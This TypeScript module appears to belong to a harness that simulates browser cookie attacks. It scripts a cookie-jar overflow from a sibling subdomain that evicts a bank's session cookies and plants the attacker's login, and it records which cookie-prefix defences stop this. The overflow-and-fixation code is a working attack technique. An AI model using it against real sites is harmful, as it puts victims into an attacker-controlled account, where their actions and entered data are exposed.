import { type Attack, whoIsWho } from '../stage.ts'
import { PARENT } from '../world/hosts.ts'
import { headersOf, LOST, ownLogin, scriptOf } from './plant.ts'

/** More than browsers keep of one site. */
const MANY = Array.from({ length: 400 }, (_, n) => ({ name: `flood${n}`, value: 'x' }))

export const attack: Attack = {
  title: 'A jar that overflows',
  who: 'somebody who has another sub-domain of the bank’s site',
  story:
    'Browsers keep some two hundred cookies of a site. A sibling sets more, of the same priority, until the bank’s own fall out, and then sets the cookies of the attacker’s login in their place.',
  decides: 'whose account the victim is shown, and whether they are still logged in',
  limit: { verdicts: ['does not stick'], note: LOST },
  withDropIns: {
    verdicts: ['does not stick', 'in the attacker’s account'],
    note: `${LOST}; a name with __Host-Http- keeps the attacker’s login out of its place`,
  },
  async play(stage) {
    const { victim, site, tell } = stage
    const known = await ownLogin(stage)
    await victim.logIn('ann')
    await tell('The victim logs in.')
    const html = `<script>${scriptOf(MANY, `domain=${PARENT}; path=/; secure; priority=high`)}</script>`
    await victim.visit(site.bait('sibling', { html }))
    await victim.page.waitForFunction(`document.cookie.includes('${MANY.at(-1)?.name}=')`) // Then all of them have been taken in.
    await victim.visit(site.bait('sibling', { headers: headersOf(known, `Domain=${PARENT}; Path=/; Secure; HttpOnly`) }))
    await tell('The victim opens a page on the attacker’s sub-domain, which sets four hundred cookies, and then those of the attacker’s login.')
    return whoIsWho(stage)
  },
}
